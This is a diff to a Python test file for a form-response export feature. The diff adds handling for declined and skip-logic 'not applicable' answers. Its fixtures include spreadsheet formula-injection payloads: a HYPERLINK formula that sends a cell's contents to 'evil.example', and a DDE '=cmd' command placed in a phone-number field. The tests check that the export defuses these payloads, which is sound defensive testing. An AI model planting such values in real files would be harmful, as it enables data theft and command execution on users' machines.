@@ -56,6 +56,8 @@ LEDGER_DOCUMENT = parse_form({
 }, LEDGER).document
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
+DETRACTORS_ONLY = ("improve_first", "topics")  # the survey asks these only when the score is 6 or less
+NEW_SYMPTOMS_ONLY = ("symptoms",)
 
 
 @dataclass(frozen=True)
@@ -71,6 +73,8 @@ class Row:
     sources: dict[str, str]
     from_number: str | None = "+15551230001"
     direction: str = "incoming"
+    # the fields this response's answers make not applicable (the forms' skip logic, written out by hand)
+    not_applicable: tuple[str, ...] = ()
 
     @property
     def id(self) -> str:
@@ -86,29 +90,34 @@ VERSIONS = [  # (form_id, version, document, created minutes before T0)
 ROWS = [
     Row(1, SURVEY, "cs-v1", 0, "completed",
         {"nps": 9, "satisfaction": "very_satisfied", "would_recommend": True, "topics": ["price", "delivery"],
-         "heard_about": "la radio — Radio Nacional"},
-        {"nps": "ai", "satisfaction": "ai", "would_recommend": "ai", "topics": "ai", "heard_about": "ai"}),
+         "heard_about": "la radio — Radio Nacional"},  # topics was answered, then the score corrected to 9
+        {"nps": "ai", "satisfaction": "ai", "would_recommend": "ai", "topics": "ai", "heard_about": "ai"},
+        not_applicable=DETRACTORS_ONLY),
     Row(2, SURVEY, "cs-v2", 5, "completed",
         {"nps": 0, "satisfaction": "very_dissatisfied", "would_recommend": False, "topics": [],
          "comment": HYPERLINK},
         {"nps": "dtmf", "satisfaction": "ai", "would_recommend": "dtmf", "topics": "ai", "comment": "ai"}),
     Row(3, SURVEY, "cs-v2", 5, "partial", {"nps": 7, "comment": "+1+1", "topics": ["support"]},
-        {"nps": "ai", "comment": "ai_partial", "topics": "ai"}, from_number="=cmd|' /C calc'!A0"),
+        {"nps": "ai", "comment": "ai_partial", "topics": "ai"}, from_number="=cmd|' /C calc'!A0",
+        not_applicable=DETRACTORS_ONLY),
     Row(4, SURVEY, "cs-v2", 9, "completed", {"nps": 10, "satisfaction": "satisfied", "comment": "@SUM(A1:A9)"},
-        {"nps": "ai", "satisfaction": "ai", "comment": "ai"}, direction="outgoing"),
+        {"nps": "ai", "satisfaction": "ai", "comment": "ai"}, direction="outgoing", not_applicable=DETRACTORS_ONLY),
     Row(5, SURVEY, "cs-v2", 12, "completed",
         {"nps": 8, "satisfaction": "neutral", "comment": 'Très bien, "vraiment" — 很好 👍\nSecond line\r\n\tend'},
-        {"nps": "ai", "satisfaction": "ai", "comment": "ai"}, from_number=None),
+        {"nps": "ai", "satisfaction": "ai", "comment": "ai"}, from_number=None, not_applicable=DETRACTORS_ONLY),
     Row(6, SURVEY, "cs-v2", 15, "completed",
-        {"nps": 5, "comment": "-5", "topics": ["quality", "website"]}, {"nps": "dtmf", "comment": "ai"}),
-    Row(7, SURVEY, "cs-v2", 18, "abandoned", {"comment": "-1+2"}, {"comment": "ai_partial"}),
-    Row(8, SURVEY, "cs-v2", 21, "in_progress", {}, {}),
+        {"nps": 5, "comment": "-5", "topics": ["quality", "website"]},
+        {"nps": "dtmf", "comment": "ai", "topics": "ai", "would_recommend": "declined"}),
+    Row(7, SURVEY, "cs-v2", 18, "abandoned", {"comment": "-1+2"}, {"comment": "ai_partial"},
+        not_applicable=DETRACTORS_ONLY),  # no score yet: neither branch applies
+    Row(8, SURVEY, "cs-v2", 21, "in_progress", {}, {}, not_applicable=DETRACTORS_ONLY),
     Row(11, INTAKE, "ai-v1", 0, "completed",
         {"full_name": "José Ñúñez", "date_of_birth": "1980-02-29", "visit_reason": "follow-up",
          "preferred_slot.date": "2025-05-20", "preferred_slot.period": "morning", "callback_number": "5551234567",
          "new_patient": False},
         {"full_name": "ai", "date_of_birth": "dtmf", "visit_reason": "ai", "preferred_slot.date": "ai",
-         "preferred_slot.period": "ai", "callback_number": "dtmf", "new_patient": "ai"}),
+         "preferred_slot.period": "ai", "callback_number": "dtmf", "new_patient": "ai"},
+        not_applicable=NEW_SYMPTOMS_ONLY),
     Row(12, INTAKE, "ai-v1", 3, "partial",
         {"full_name": "山田 太郎", "visit_reason": "new-symptoms", "preferred_slot.period": "afternoon",
          "new_patient": True},
@@ -117,7 +126,7 @@ ROWS = [
         {"full_name": "Zoë O'Brien 🙂", "date_of_birth": "2001-12-31", "visit_reason": "vaccination",
          "preferred_slot.date": "2025-06-02", "preferred_slot.period": "morning", "callback_number": "0123456789"},
         {"full_name": "ai", "date_of_birth": "ai", "visit_reason": "ai", "preferred_slot.date": "ai",
-         "preferred_slot.period": "ai", "callback_number": "ai"}),
+         "preferred_slot.period": "ai", "callback_number": "ai"}, not_applicable=NEW_SYMPTOMS_ONLY),
     Row(21, LEDGER, "ledger-v1", 0, "completed", {"delta": -5, "balance": 4.5, "note": "-"},
         {"delta": "ai", "balance": "ai", "note": "ai"}),
     Row(22, LEDGER, "ledger-v1", 1, "completed", {"delta": 36, "balance": -12.75, "note": "- refund"},
@@ -209,15 +218,19 @@ def expected_rows(form_id: str, fields: list[str], *, sources: bool, raw: bool) 
         row |= {name: expected_text(r.answers.get(name)) for name in fields}
         if not raw:
             row |= {name: defused(row[name]) for name in ("from", *fields)}
+        row |= {name: ".declined" for name in fields if r.sources.get(name) == "declined"}
+        row |= dict.fromkeys(r.not_applicable, "")
         if sources:
             row |= {f"{name}.source": r.sources.get(name, "") for name in fields}
+            row |= {f"{name}.source": "not_applicable" for name in r.not_applicable}
         rows.append(row)
     return rows
 
 
-SURVEY_FIELDS = ["nps", "satisfaction", "would_recommend", "topics", "comment", "heard_about"]
+# properties in file order, the fields the `then` branch declares, then the field only the older version had
+SURVEY_FIELDS = ["nps", "satisfaction", "would_recommend", "comment", "improve_first", "topics", "heard_about"]
 INTAKE_FIELDS = ["full_name", "date_of_birth", "visit_reason", "preferred_slot.date", "preferred_slot.period",
-                 "callback_number", "new_patient"]
+                 "callback_number", "new_patient", "symptoms"]
 
 
 # ---- CSV ------------------------------------------------------------------------------------------------
@@ -238,7 +251,11 @@ async def test_survey_csv_over_two_versions_with_sources(engine: AsyncEngine) ->
     assert by_id["4"]["comment"] == "'@SUM(A1:A9)"
     assert by_id["5"]["comment"] == "Très bien, \"vraiment\" — 很好 👍\nSecond line\r\n\tend"
     assert by_id["6"]["comment"] == "-5" and by_id["7"]["comment"] == "'-1+2"  # a number is not a formula
-    assert by_id["1"]["topics"] == "price;delivery" and by_id["1"]["would_recommend"] == "true"
+    assert by_id["6"]["topics"] == "quality;website" and by_id["1"]["would_recommend"] == "true"
+    # a value kept for a question the score made not applicable is exported empty, its source says why
+    assert by_id["1"]["topics"] == "" and by_id["1"]["topics.source"] == "not_applicable"
+    assert by_id["6"]["would_recommend"] == ".declined" and by_id["6"]["would_recommend.source"] == "declined"
+    assert by_id["2"]["improve_first"] == "" and by_id["2"]["improve_first.source"] == ""  # asked, not answered
     assert by_id["2"]["nps"] == "0" and by_id["2"]["would_recommend"] == "false"
     assert by_id["1"]["from"] == "+15551230001"  # E.164 stays as it is
 
@@ -285,7 +302,7 @@ async def test_filters_select_by_status_and_time(engine: AsyncEngine) -> None:
 
 async def test_no_matching_rows_still_gives_the_header(engine: AsyncEngine) -> None:
     text = await export(engine, SURVEY, statuses=("failed",))
-    assert text == csv_record([neutralise(n) for n in expected_header(SURVEY_FIELDS[:5])], "\n")
+    assert text == csv_record([neutralise(n) for n in expected_header(SURVEY_FIELDS[:6])], "\n")
 
 
 def expected_header(fields: list[str]) -> list[str]:
@@ -304,8 +321,13 @@ async def test_ndjson_is_typed_and_nested(engine: AsyncEngine, form_id: str) -> 
     assert [record["response_id"] for record in records] == [r.id for r in rows]
     for record, r in zip(records, rows, strict=True):
         assert record["form_version"] == r.version and record["status"] == r.status
-        assert flatten(record["answers"]) == r.answers  # same values, same JSON types
+        declined = sorted(name for name, source in r.sources.items() if source == "declined")
+        # same values, same JSON types; null for a declined question and for a value made not applicable
+        assert flatten(record["answers"]) == {
+            **{k: v for k, v in r.answers.items() if k not in r.not_applicable},
+            **dict.fromkeys(declined), **dict.fromkeys(k for k in r.answers if k in r.not_applicable)}
         assert flatten(record["sources"]) == r.sources
+        assert record["declined"] == declined and record["not_applicable"] == list(r.not_applicable)
         assert record["from"] == r.from_number and record["started_at"].endswith("Z")
     if form_id == INTAKE:
         assert records[0]["answers"]["preferred_slot"] == {"date": "2025-05-20", "period": "morning"}
